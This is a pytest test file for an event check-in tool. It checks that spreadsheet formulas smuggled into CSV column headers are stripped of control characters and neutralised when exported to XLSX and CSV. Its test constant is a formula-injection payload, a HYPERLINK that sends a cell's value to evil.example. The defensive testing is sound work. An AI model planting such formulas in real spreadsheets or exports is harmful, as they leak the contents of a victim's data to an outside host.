"""A column header cannot smuggle a live formula into the exports."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from checkin.store import open_event
from tests.cli_runner import cli

HOSTILE = '\x01=HYPERLINK("http://evil.example/?"&A2,"Open")'


def test_a_control_character_before_a_formula_in_a_header_is_stripped_and_neutralised(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "list.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["Given name", "Family name", "E-mail", HOSTILE],
                                      ["Ada", "Lovelace", "ada@example.org", "hello"]])
    event = tmp_path / "e.checkin"
    assert cli(capsys, "new", event, "--title", "T", "--date", "2026-05-04")[0] == 0
    status, _out, err = cli(capsys, "import", event, source)
    assert status == 0, err
    with open_event(event) as store:
        [ada] = store.attendees()
    assert list(ada.extra) == [HOSTILE[1:]]  # the label keeps its text, without the control character
    assert cli(capsys, "export", event, "-o", tmp_path / "out.xlsx")[0] == 0
    sheet = load_workbook(tmp_path / "out.xlsx").worksheets[0]
    header = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)
              and "HYPERLINK" in cell.value]
    assert header and all(cell.data_type == "s" for cell in header)
    assert cli(capsys, "export", event, "-o", tmp_path / "out.csv")[0] == 0
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row if "HYPERLINK" in cell]
    assert cells and all(cell.startswith("'=") for cell in cells), cells


def test_the_xlsx_writer_checks_the_cleaned_value(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from checkin.io.export_xlsx import _Sheet

    workbook = Workbook(write_only=True)
    writer = _Sheet(workbook, "List")
    writer.header([HOSTILE, "\x02\x03+SUM(1)"])
    workbook.save(tmp_path / "h.xlsx")
    cells = next(iter(load_workbook(tmp_path / "h.xlsx").worksheets[0].iter_rows()))
    assert [c.data_type for c in cells] == ["s", "s"]
    assert cells[0].value == HOSTILE[1:]
